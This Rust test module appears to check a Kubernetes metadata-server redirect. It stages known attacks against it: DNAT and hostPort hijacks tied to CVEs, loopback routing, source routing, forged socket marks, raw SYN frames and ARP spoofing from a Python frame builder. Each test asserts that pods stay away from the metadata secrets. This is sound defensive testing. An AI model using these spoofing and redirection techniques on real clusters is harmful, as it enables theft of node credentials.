//! The attack book: what is known to lead pods past a redirect, or strangers before it, tried against both tools.
//!
//! Each test is a row of the table in `docs/redirect.md`. None of them asks how the redirect is built: only who answers a pod.

use std::io::{Read as _, Write as _};
use std::net::{Ipv6Addr, SocketAddr, TcpListener};
use std::sync::Arc;
use std::thread::sleep;
use std::time::Duration;

use redirect::SIDECAR_UID;

use crate::machine;
use crate::namespace::Namespace;
use crate::process::Process;
use crate::support::needs::{Test, tests};
use crate::world::{KUBE_ENV, SERVER, WAYS_ROUND, World, redirect, succeeds};

/// The tests of this module.
pub const TESTS: &[Test] = tests![
    a_service_with_the_server_s_address_answers_nobody,
    a_host_port_for_all_addresses_answers_nobody,
    a_host_port_of_the_proxy_s_own_port_answers_nobody,
    an_endpoint_that_is_the_server_is_closed,
    a_packet_that_is_not_forwarded_is_closed_too,
    rules_that_accept_everything_first_open_nothing,
    a_name_that_leads_to_the_server_leads_to_the_proxy,
    loopback_is_closed_to_neighbours,
    a_user_namespace_changes_nothing,
];

/// Those of pods that make their own packets.
pub const WITH_PYTHON: &[Test] = tests![
    source_routes_lead_nowhere,
    marks_fast_open_and_multipath_lead_to_the_proxy,
    frames_of_a_pod_s_own_are_redirected_too,
    arp_of_a_pod_does_not_take_the_proxy_s_place,
];

pub const TOOLS: [&str; 2] = ["nft", "iptables"];

/// What no proxy and no metadata server says.
const FORGED: &str = "forged by a stranger";

const SERVER_V6: &str = "http://[fd20:ce::254]";

/// The second pod, which is the attacker's.
const ATTACKER: [&str; 2] = ["10.8.2.2:80", "[fd00:b:2::2]:80"];

/// Who answered a request.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Read {
    Proxy,
    /// The metadata server itself.
    Server,
    /// The attacker.
    Stranger,
    Nothing,
}

impl Read {
    pub fn of(text: &str) -> Self {
        if text.contains(FORGED) {
            Self::Stranger
        } else if text.contains("gce-metadata-proxy") {
            Self::Proxy
        } else if text.contains("HTTP/1.1 ") {
            Self::Server
        } else {
            Self::Nothing
        }
    }
}

/// Asks for a secret.
pub fn read(place: &Namespace, host: &str) -> Read {
    read_within(5.0, place, host)
}

/// Asks where nobody should answer, or it does not matter whether somebody does. A stranger would do so at once.
pub fn read_briefly(place: &Namespace, host: &str) -> Read {
    read_within(0.4, place, host)
}

fn read_within(seconds: f64, place: &Namespace, host: &str) -> Read {
    let seconds = seconds * f64::from(machine::patience());
    let curl = format!("curl -s -i -g --max-time {seconds} -H 'Metadata-Flavor: Google' '{host}{KUBE_ENV}' || true");
    Read::of(&place.sh(&curl))
}

/// The same by a pod's own program: the words of Python open a socket `s` and connect it.
fn read_by(pod: &Namespace, connects: &str) -> Read {
    let request =
        format!("GET {KUBE_ENV} HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\nMetadata-Flavor: Google\\r\\n\\r\\n");
    let asks = format!(
        "request = b'{request}'\n{connects}\nif not s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) and not sent: \
         s.sendall(request)\nprint(s.recv(65536).decode())"
    );
    let indented = asks.replace('\n', "\n    ");
    Read::of(&python(pod, &format!("sent = False\ntry:\n    {indented}\nexcept OSError as error:\n    print(error)")))
}

/// Runs a program with the capability of a container that may send raw packets, and the one that sets marks.
fn python(pod: &Namespace, program: &str) -> String {
    let program = format!("import os, socket, struct, time\nsocket.setdefaulttimeout(2)\n{program}");
    let mut command = pod.command("setpriv");
    let capabilities = "-all,+net_raw,+net_admin";
    command.args(["--bounding-set", capabilities, "--inh-caps", capabilities, "python3", "-c", &program]);
    let output = command.output().expect("it can be run");
    assert!(output.status.success(), "{program}: {}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).expect("text")
}

/// The proxy, where the redirect leads.
pub fn proxy(world: &World) -> Process {
    world.proxy(&["--addr", &destination(world).join(",")])
}

/// Where the redirect leads, by each IP version that it serves.
pub fn destination(world: &World) -> Vec<String> {
    let rules = redirect(&world.node, "install --dry-run --tool nft").stdout;
    let words: Vec<&str> = rules.split_whitespace().collect();
    let leads = |words: &[&str]| matches!(words, ["dnat", "ip" | "ip6", "to", _]);
    let addrs: Vec<String> = words.windows(4).filter(|words| leads(words)).map(|words| words[3].to_owned()).collect();
    assert!(!addrs.is_empty(), "{rules}");
    addrs
}

/// A node with a redirect and its proxy.
struct Scene {
    tool: &'static str,
    world: World,
    proxy: Option<Process>,
}

impl Scene {
    fn new(tool: &'static str) -> Self {
        let world = World::new();
        succeeds(&redirect(&world.node, &format!("install --tool {tool}")));
        let proxy = Some(proxy(&world));
        let scene = Self { tool, world, proxy };
        assert_eq!(read(scene.victim(), SERVER), Read::Proxy, "{tool}");
        scene
    }

    fn victim(&self) -> &Namespace {
        &self.world.pods[0]
    }

    fn attacker(&self) -> &Namespace {
        &self.world.pods[1]
    }

    fn install(&self) {
        succeeds(&redirect(&self.world.node, &format!("install --tool {}", self.tool)));
    }

    /// Tries something with the rules of others in each place.
    fn with(&self, rules: &[Rewrite], attack: impl Fn(Place)) {
        for place in PLACES {
            for rule in rules {
                self.world.node.sh(&rule.text(place));
            }
            if place == Place::AfterOurs {
                self.install();
            }
            attack(place);
            self.world.node.sh("for table in ip ip6; do nft delete table $table others 2>/dev/null; done
                for tool in iptables ip6tables; do $tool -t nat -F PREROUTING; $tool -t nat -F OUTPUT; done");
            self.install();
        }
    }

    /// No way leads to the server, and port 80 to the proxy.
    fn holds(&self, pod: &Namespace, when: &str) {
        assert_eq!(read(pod, SERVER), Read::Proxy, "{}, {when}", self.tool);
        for way in WAYS_ROUND {
            let read = read_briefly(pod, way);
            assert!(matches!(read, Read::Proxy | Read::Nothing), "{}, {when}: {way} leads to {read:?}", self.tool);
        }
    }

    /// A destination is rewritten once. Where others do that first, nobody serves.
    fn victim_is_answered_by_nobody_else(&self, place: Place) {
        let what = format!("{}, others {place:?}", self.tool);
        if place.is_first(self.tool) {
            let read = read_briefly(self.victim(), SERVER);
            assert!(matches!(read, Read::Proxy | Read::Nothing), "{what}: {read:?}");
        } else {
            assert_eq!(read(self.victim(), SERVER), Read::Proxy, "{what}");
        }
        let read = read_briefly(self.victim(), SERVER_V6);
        assert!(matches!(read, Read::Proxy | Read::Nothing), "{what}: {read:?} by IPv6");
    }
}

/// Begins to count what reaches the server from a pod's address. A reset says nothing.
pub fn count(world: &World) {
    world.outside.sh(
        "nft add table inet seen
        nft delete table inet seen
        nft add table inet seen
        nft add chain inet seen in '{ type filter hook prerouting priority 0; }'
        nft add rule inet seen in ip daddr 169.254.169.254 ip saddr 10.8.0.0/16 tcp dport != 53 tcp flags \\& rst == 0 counter
        nft add rule inet seen in ip6 daddr fd20:ce::254 ip6 saddr fd00:b::/32 tcp dport != 53 tcp flags \\& rst == 0 counter",
    );
}

/// Packets since then.
pub fn seen(world: &World) -> u64 {
    let listing = world.outside.sh("nft list table inet seen");
    let counts = listing.split("counter packets ").skip(1);
    counts.map(|rest| rest.split(' ').next().expect("a word").parse::<u64>().expect("a number")).sum()
}

/// The proxy goes before its network.
impl Drop for Scene {
    fn drop(&mut self) {
        drop(self.proxy.take());
    }
}

/// Where others have their rules, beside those of the redirect.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Place {
    /// iptables, before the redirect's.
    BeforeOurs,
    /// iptables, after the redirect's.
    AfterOurs,
    /// nftables, with the priority that kube-proxy and the plugin portmap have.
    Usual,
    /// nftables, before the redirect's.
    Early,
}

const PLACES: [Place; 4] = [Place::BeforeOurs, Place::AfterOurs, Place::Usual, Place::Early];

impl Place {
    /// Whether these rules come before those of the redirect. Of two chains with one priority, the younger does.
    fn is_first(self, tool: &str) -> bool {
        matches!(self, Self::BeforeOurs | Self::Early) || self == Self::Usual && tool == "iptables"
    }
}

/// A rule of others that rewrites the destination of what pods and the node send, as kube-proxy and the plugin portmap do.
struct Rewrite {
    /// Whether to this address, or what else a packet must be.
    to: To,
    port: u16,
    instead: SocketAddr,
}

enum To {
    Address(&'static str),
    /// Any address at all.
    All,
    /// Any address of the node.
    Node,
}

impl Rewrite {
    fn new(to: To, port: u16, instead: &str) -> Self {
        Self { to, port, instead: instead.parse().expect("an address") }
    }

    fn text(&self, place: Place) -> String {
        let Self { to, port, instead } = self;
        let is_v6 = instead.is_ipv6();
        let iptables = if is_v6 { "ip6tables" } else { "iptables" };
        let family = if is_v6 { "ip6" } else { "ip" };
        let (old, new) = match to {
            To::Address(addr) => (format!("-d {addr}"), format!("{family} daddr {addr}")),
            To::All => (String::new(), String::new()),
            To::Node => ("-m addrtype --dst-type LOCAL".to_owned(), "fib daddr type local".to_owned()),
        };
        let nft = |priority: i16| {
            format!(
                "nft -f - <<end
                add table {family} others
                add chain {family} others in {{ type nat hook prerouting priority {priority}; }}
                add chain {family} others out {{ type nat hook output priority {priority}; }}
                add rule {family} others in {new} tcp dport {port} dnat to {instead}
                add rule {family} others out {new} tcp dport {port} dnat to {instead}\nend"
            )
        };
        match place {
            Place::BeforeOurs | Place::AfterOurs => ["PREROUTING", "OUTPUT"]
                .map(|chain| {
                    format!(
                        "{iptables} -t nat -I {chain} {old} -p tcp --dport {port} -j DNAT --to-destination {instead}\n"
                    )
                })
                .concat(),
            Place::Usual => nft(-100),
            // No nat chain may come earlier, because conntrack has -200.
            Place::Early => nft(-199),
        }
    }
}

/// Answers whoever asks, until it is dropped.
pub struct Stranger {
    _alive: Arc<()>,
}

impl Stranger {
    #[expect(clippy::disallowed_methods, reason = "nothing here is asynchronous, and a test may sleep")]
    pub fn new(pod: &Namespace, port: u16) -> Self {
        let mine = Arc::new(());
        let theirs = Arc::clone(&mine);
        let listen = move || TcpListener::bind((Ipv6Addr::UNSPECIFIED, port)).expect("a free port");
        let listener = pod.spawn(listen).join().expect("no panic");
        listener.set_nonblocking(true).expect("it is open");
        std::thread::spawn(move || {
            while Arc::strong_count(&theirs) > 1 {
                let Ok((mut stream, _)) = listener.accept() else {
                    sleep(Duration::from_millis(2));
                    continue;
                };
                let length = FORGED.len();
                let answer =
                    format!("HTTP/1.1 200 OK\r\nMetadata-Flavor: Google\r\nContent-Length: {length}\r\n\r\n{FORGED}");
                // Whoever does not ask gets no answer.
                let _ = stream.set_nonblocking(false);
                let _ = stream.set_read_timeout(Some(Duration::from_secs(2)));
                let _ = stream.read(&mut [0; 4096]).and_then(|_| stream.write_all(answer.as_bytes()));
            }
        });
        Self { _alive: mine }
    }
}

/// CVE-2020-8554: `externalIPs`, or the address that the status of a load balancer has. The node's own requests are the
/// proxy's, so they may not be answered by strangers either.
fn a_service_with_the_server_s_address_answers_nobody() {
    for tool in TOOLS {
        let scene = Scene::new(tool);
        let _stranger = Stranger::new(scene.attacker(), 80);
        let [v4, v6] = ["169.254.169.254", "fd20:ce::254"].map(To::Address);
        let rules = [Rewrite::new(v4, 80, ATTACKER[0]), Rewrite::new(v6, 80, ATTACKER[1])];
        scene.with(&rules, |place| {
            scene.victim_is_answered_by_nobody_else(place);
            for host in [SERVER, SERVER_V6] {
                let node = read_briefly(&scene.world.node, host);
                assert_eq!(node, Read::Nothing, "{tool}, others {place:?}: the node's own request for {host}");
            }
        });
        scene.holds(scene.victim(), "after it");
    }
}

/// CVE-2019-9946: a port of the node that is taken at every address, the server's included.
fn a_host_port_for_all_addresses_answers_nobody() {
    for tool in TOOLS {
        let scene = Scene::new(tool);
        let _stranger = Stranger::new(scene.attacker(), 80);
        let rules = [Rewrite::new(To::All, 80, ATTACKER[0]), Rewrite::new(To::All, 80, ATTACKER[1])];
        scene.with(&rules, |place| {
            scene.victim_is_answered_by_nobody_else(place);
            let node = read_briefly(&scene.world.node, SERVER);
            assert_eq!(node, Read::Nothing, "{tool}, others {place:?}: the node's own request");
        });
    }
}

/// What the plugin portmap writes today: ports 80 and 988 of the node lead to the attacker.
fn a_host_port_of_the_proxy_s_own_port_answers_nobody() {
    for tool in TOOLS {
        let scene = Scene::new(tool);
        let _stranger = Stranger::new(scene.attacker(), 80);
        let rules = [80, 988].map(|port| Rewrite::new(To::Node, port, ATTACKER[0]));
        scene.with(&rules, |place| {
            let what = format!("others {place:?}");
            scene.holds(scene.victim(), &what);
            scene.holds(scene.attacker(), &what);
            assert_eq!(read(&scene.world.node, SERVER), Read::Server, "the node's own request");
        });
    }
}

/// CVE-2021-25737, CVE-2026-42965: a Service whose endpoint is the server. kube-proxy accepts what it has rewritten, and may
/// masquerade it, so the server would answer the node.
fn an_endpoint_that_is_the_server_is_closed() {
    const SERVICES: [(&str, &str, u16, &str); 4] = [
        ("http://10.96.0.10", "10.96.0.10", 80, "169.254.169.254:80"),
        ("http://10.96.0.10:443", "10.96.0.10", 443, "169.254.169.254:443"),
        ("http://10.96.0.10:8081", "10.96.0.10", 8081, "169.254.169.254:8081"),
        ("http://[fd00:c::10]", "fd00:c::10", 80, "[fd20:ce::254]:80"),
    ];
    for tool in TOOLS {
        let scene = Scene::new(tool);
        scene.world.node.sh("iptables -t nat -A POSTROUTING -s 10.8.0.0/16 -j MASQUERADE
            ip6tables -t nat -A POSTROUTING -s fd00:b::/32 -j MASQUERADE
            for tool in iptables ip6tables; do $tool -I FORWARD -m conntrack --ctstate DNAT -j ACCEPT; done
            for tool in iptables ip6tables; do $tool -I FORWARD -m conntrack --ctstate ESTABLISHED -j ACCEPT; done");
        let rules = SERVICES.map(|(_, addr, port, server)| Rewrite::new(To::Address(addr), port, server));
        scene.with(&rules, |place| {
            for (host, ..) in SERVICES {
                assert_eq!(read_briefly(scene.victim(), host), Read::Nothing, "{tool}, others {place:?}: {host}");
            }
            scene.holds(scene.victim(), &format!("others {place:?}"));
        });
    }
}

/// IPVS sends a pod's packet as the node's own: it never passes where packets are forwarded. A copy of it takes the same way.
fn a_packet_that_is_not_forwarded_is_closed_too() {
    for tool in TOOLS {
        let scene = Scene::new(tool);
        count(&scene.world);
        scene.world.node.sh("nft add table ip others
            nft add chain ip others copies '{ type filter hook prerouting priority -310; }'
            nft add rule ip others copies ip saddr 10.8.0.0/16 ip daddr 169.254.169.254 dup to 10.128.0.1");
        scene.holds(scene.victim(), "with copies");
        assert_eq!(seen(&scene.world), 0, "{tool}: copies reached the server");
    }
}

/// As Calico's chain, which comes before others in the chain of the kernel.
fn rules_that_accept_everything_first_open_nothing() {
    for tool in TOOLS {
        let scene = Scene::new(tool);
        count(&scene.world);
        for table in ["filter", "mangle", "raw"] {
            for chain in ["PREROUTING", "INPUT", "FORWARD", "OUTPUT"] {
                // Not every table has every chain.
                let insert = format!("-t {table} -I {chain} -j ACCEPT 2>/dev/null || true");
                scene.world.node.sh(&format!("iptables {insert}\nip6tables {insert}"));
            }
        }
        scene.holds(scene.victim(), "with rules that accept everything");
        assert_eq!(seen(&scene.world), 0, "{tool}: packets reached the server");
    }
}

/// An `ExternalName`, or any other record of the attacker's.
fn a_name_that_leads_to_the_server_leads_to_the_proxy() {
    for tool in TOOLS {
        let scene = Scene::new(tool);
        for (port, expected) in [(80, Read::Proxy), (8081, Read::Nothing)] {
            let name = "service.team.svc.cluster.local";
            let resolve = format!("--resolve {name}:{port}:169.254.169.254 http://{name}:{port}");
            let ask = format!("curl -s -i --max-time 2 -H 'Metadata-Flavor: Google' {resolve}{KUBE_ENV} || true");
            assert_eq!(Read::of(&scene.victim().sh(&ask)), expected, "{tool}, port {port}");
        }
    }
}

/// CVE-2020-8558. A neighbour routes 127.0.0.0/8 to the node.
fn loopback_is_closed_to_neighbours() {
    for tool in TOOLS {
        let scene = Scene::new(tool);
        let attacker = scene.attacker();
        attacker.sh("echo 1 > /proc/sys/net/ipv4/conf/all/route_localnet; ip addr flush dev lo
            ip route add 127.0.0.0/8 via 10.8.2.1 src 10.8.2.2");
        let attack = |port| {
            let curl = format!("curl -s -i --max-time 2 http://127.0.0.1:{port}/healthz || true");
            attacker.sh(&curl).contains("HTTP/1.1 ")
        };
        for port in [988, 989] {
            assert!(!attack(port), "{tool}: a neighbour reaches port {port} of loopback");
        }
        succeeds(&redirect(&scene.world.node, "remove"));
        scene.world.node.sh("echo 1 > /proc/sys/net/ipv4/conf/all/route_localnet");
        assert!(attack(989), "an attack that works, were loopback routed and not guarded");
    }
}

/// In a user namespace of one's own, one has every capability, and is whoever one likes.
fn a_user_namespace_changes_nothing() {
    let user = "setpriv --reuid 1000 --regid 1000 --clear-groups unshare --user";
    for tool in TOOLS {
        let scene = Scene::new(tool);
        let pod = scene.victim();
        for flush in ["nft flush ruleset", "iptables -t nat -F"] {
            let in_own_network = format!("{user} --map-root-user --net sh -c '{flush} && ! curl -s -m 2 {SERVER}'");
            pod.sh(&in_own_network);
        }
        scene.holds(pod, "after flushes");

        let sidecar = &scene.world.pods[1];
        succeeds(&redirect(&scene.world.node, "remove"));
        let install = format!("install --tool {tool} --mode sidecar --proxy-uid {SIDECAR_UID} --to 127.0.0.1:8988");
        succeeds(&redirect(sidecar, &install));
        let ask = format!("curl -s -i --max-time 2 -H 'Metadata-Flavor: Google' {SERVER}{KUBE_ENV} || true");
        let as_proxy = format!("setpriv --reuid {SIDECAR_UID} --clear-groups {ask}");
        assert_eq!(Read::of(&sidecar.sh(&as_proxy)), Read::Server, "the proxy's own requests");
        for whom in [format!("--map-user={SIDECAR_UID}"), "--map-root-user".to_owned()] {
            assert_eq!(Read::of(&sidecar.sh(&format!("{user} {whom} {ask}"))), Read::Nothing, "{tool}: {whom}");
        }
        let flush = format!("{user} --map-root-user sh -c 'nft flush ruleset; iptables -t nat -F; iptables -F; true'");
        sidecar.sh(&format!("{flush} 2>/dev/null"));
        assert_eq!(Read::of(&sidecar.sh(&ask)), Read::Nothing, "{tool}: rules were flushed");
    }
}

/// A packet for the node that says that it goes on to the server.
fn source_routes_lead_nowhere() {
    for tool in TOOLS {
        let scene = Scene::new(tool);
        count(&scene.world);
        for place in [&*scene.world.node, &scene.world.outside] {
            place.sh("for file in /proc/sys/net/ipv4/conf/*/accept_source_route; do echo 1 > $file; done");
        }
        for port in [80, 8081] {
            let connects = format!(
                "s = socket.socket()
s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, bytes([131, 7, 4]) + socket.inet_aton('10.8.1.1') + bytes([0]))
s.connect(('169.254.169.254', {port}))"
            );
            let read = read_by(scene.victim(), &connects);
            assert!(matches!(read, Read::Proxy | Read::Nothing), "{tool}: port {port} leads to {read:?}");
        }
        assert_eq!(seen(&scene.world), 0, "{tool}: packets reached the server");
    }
}

/// What opens a connection in another way than others do.
fn marks_fast_open_and_multipath_lead_to_the_proxy() {
    const WAYS: [(&str, &str); 4] = [
        // The marks that kube-proxy and Calico give to what they have seen and accept.
        ("mark 0x4000", "s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, 36, 0x4000); s.connect(to)"),
        ("mark 0x10000", "s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, 36, 0x10000); s.connect(to)"),
        ("fast open", "s = socket.socket(); s.sendto(request, 0x20000000, to); sent = True"),
        ("multipath", "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.connect(to)"),
    ];
    for tool in TOOLS {
        let scene = Scene::new(tool);
        count(&scene.world);
        for place in [scene.victim(), &*scene.world.node, &scene.world.outside] {
            // 0x4: without a cookie.
            place.sh("echo 0x607 > /proc/sys/net/ipv4/tcp_fastopen");
        }
        scene.world.node.sh("iptables -A FORWARD -m mark --mark 0x4000/0x4000 -j ACCEPT");
        for (way, words) in WAYS {
            for (port, expected) in [(80, Read::Proxy), (8081, Read::Nothing)] {
                let connects = format!("to = ('169.254.169.254', {port}); {words}");
                assert_eq!(read_by(scene.victim(), &connects), expected, "{tool}: {way}, port {port}");
            }
        }
        assert_eq!(seen(&scene.world), 0, "{tool}: packets reached the server");
    }
}

/// Functions that make frames: of TCP that opens a connection, and of ARP.
const FRAMES: &str = "
def mac(text): return bytes.fromhex(text.replace(':', ''))
def total(data):
    n = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while n >> 16: n = (n & 0xffff) + (n >> 16)
    return ~n & 0xffff
def syn(source, to, port, pseudo):
    # Of another port each time: a connection that was redirected stays redirected.
    mine = 20000 + os.getpid() % 20000 + port % 1000
    tcp = lambda check: struct.pack('!HHIIBBHHH', mine, port, 1, 0, 0x50, 2, 1024, check, 0)
    return tcp(total(pseudo + tcp(0)))
def v4(source, to, port):
    source, to = socket.inet_aton(source), socket.inet_aton(to)
    head = lambda check: struct.pack('!BBHHHBBH', 0x45, 0, 40, 1, 0, 64, 6, check) + source + to
    return head(total(head(0))) + syn(source, to, port, source + to + struct.pack('!BBH', 0, 6, 20))
def v6(source, to, port):
    source, to = (socket.inet_pton(socket.AF_INET6, a) for a in (source, to))
    return struct.pack('!IHBB', 0x60000000, 20, 6, 64) + source + to + syn(source, to, port, source + to + struct.pack('!IHBB', 20, 0, 0, 6))
def arp(me, to, whose):
    return mac(to) + mac(me) + b'\\x08\\x06' + struct.pack('!HHBBH', 1, 0x800, 6, 4, 2) + mac(me) + socket.inet_aton(whose) + mac(to) + socket.inet_aton(whose)
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
wire.bind(('eth0', 0))
";

fn mac(place: &Namespace, interface: &str) -> String {
    place.sh(&format!("cat /sys/class/net/{interface}/address")).trim().to_owned()
}

/// A pod with `NET_RAW`, whose frames pass by its own network's rules.
fn frames_of_a_pod_s_own_are_redirected_too() {
    for tool in TOOLS {
        let scene = Scene::new(tool);
        count(&scene.world);
        let (me, node) = (mac(scene.attacker(), "eth0"), mac(&scene.world.node, "pod2"));
        let attack = || {
            let sends = format!(
                "{FRAMES}
for port in (80, 443, 8081, 8083):
    wire.send(mac('{node}') + mac('{me}') + b'\\x08\\x00' + v4('10.8.2.2', '169.254.169.254', port))
    wire.send(mac('{node}') + mac('{me}') + b'\\x86\\xdd' + v6('fd00:b:2::2', 'fd20:ce::254', port))
time.sleep(0.2)"
            );
            python(scene.attacker(), &sends);
            seen(&scene.world)
        };
        assert_eq!(attack(), 0, "{tool}: frames reached the server");
        succeeds(&redirect(&scene.world.node, "remove"));
        // The node may still be looking for its neighbours of IPv6.
        let works = (0..20).any(|_| {
            count(&scene.world);
            attack() >= 8
        });
        assert!(works, "{tool}: an attack that works, were there no rules");
        scene.install();
        count(&scene.world);
        assert_eq!(attack(), 0, "{tool}: frames reached the server by a way that is known");
    }
}

/// CVE-2021-1677. Where each pod has a link of its own to the node, as on GKE, nobody else hears a pod's ARP. On a bridge a pod
/// with `NET_RAW` takes the node's place for others; the kernel's setting that Kubernetes asks for has the rules see these frames
/// too.
fn arp_of_a_pod_does_not_take_the_proxy_s_place() {
    let scene = Scene::new("nft");
    let [victim, attacker] = &scene.world.pods;
    let _stranger = Stranger::new(attacker, 80);
    attacker.ip("addr add 169.254.169.254/32 dev lo");
    let attack = |me: &str, gateway: &str, peer: &str| {
        let claims = format!(
            "{FRAMES}
# The kernel keeps what it has heard for a second.
for turn in range(15):
    for whose in ('{gateway}', '169.254.169.254'):
        for to in ('ff:ff:ff:ff:ff:ff', '{peer}'): wire.send(arp('{me}', to, whose))
    time.sleep(0.1)"
        );
        python(attacker, &claims);
        read(victim, SERVER)
    };
    let [me, peer] = [attacker, victim].map(|pod| mac(pod, "eth0"));
    assert_eq!(attack(&me, "10.8.1.1", &peer), Read::Proxy);

    let node = &scene.world.node;
    node.sh("ip link add bridge0 type bridge; ip link set bridge0 up
        for pod in pod1 pod2; do ip addr flush dev $pod; ip link set $pod master bridge0; done
        ip addr add 10.9.0.1/24 dev bridge0");
    for (number, pod) in (2..).zip([victim, attacker]) {
        pod.sh(&format!(
            "ip addr flush dev eth0; ip addr add 10.9.0.{number}/24 dev eth0; ip route add default via 10.9.0.1"
        ));
    }
    assert_eq!(read(victim, SERVER), Read::Proxy);
    let bridge_netfilter = |value: u8| {
        node.sh(&format!(
            "for file in /proc/sys/net/bridge/bridge-nf-call-iptables; do [ ! -e $file ] || echo {value} > $file; done
            ls /proc/sys/net/bridge/bridge-nf-call-iptables 2>/dev/null || true"
        ))
    };
    if !bridge_netfilter(1).is_empty() {
        assert_eq!(attack(&me, "10.9.0.1", &peer), Read::Proxy, "what is bridged passes the rules");
    }
    bridge_netfilter(0);
    assert_eq!(attack(&me, "10.9.0.1", &peer), Read::Stranger, "an attack that works on a bridge");
}
